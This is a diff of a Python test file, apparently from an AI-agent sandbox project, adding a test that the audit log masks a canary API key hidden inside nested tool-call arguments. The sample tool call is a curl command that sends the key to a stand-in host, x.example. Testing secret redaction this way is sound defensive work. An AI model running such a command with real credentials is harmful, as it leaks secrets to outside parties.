@@ -33,7 +33,7 @@ from helpers import (
 )
 from test_sandbox import gone
 
-from shared.audit import GENESIS, chain_breaks
+from shared.audit import GENESIS, AuditLog, chain_breaks
 from shared.providers import ToolCall
 from shared.sandbox import find_wall
 
@@ -416,6 +416,17 @@ def one_line_error(done, *words):
     last = done.stderr.strip().splitlines()[-1]
     assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
     assert last.startswith("error: ") and all(w in last for w in words), last
+
+
+def test_a_secret_inside_a_list_or_a_nested_argument_is_hidden_too(tmp_path):
+    # a model may send any JSON as arguments: an argv list, an object inside an object
+    key = f"canary{uuid.uuid4().hex}"
+    log = AuditLog(tmp_path / "audit.jsonl", environ={"OPENAI_API_KEY": key})
+    log.write(tool="run", args={"argv": ["curl", f"https://x.example/?k={key}"],
+                                "env": {"K": [[key]]}})
+    written = (tmp_path / "audit.jsonl").read_text(encoding="utf-8")
+    assert not any(key[i:i + 8] in written for i in range(len(key) - 7)), written
+    assert written.count("*" * len(key)) == 2
 
 
 def test_a_symlink_planted_as_the_log_is_refused(tmp_path):
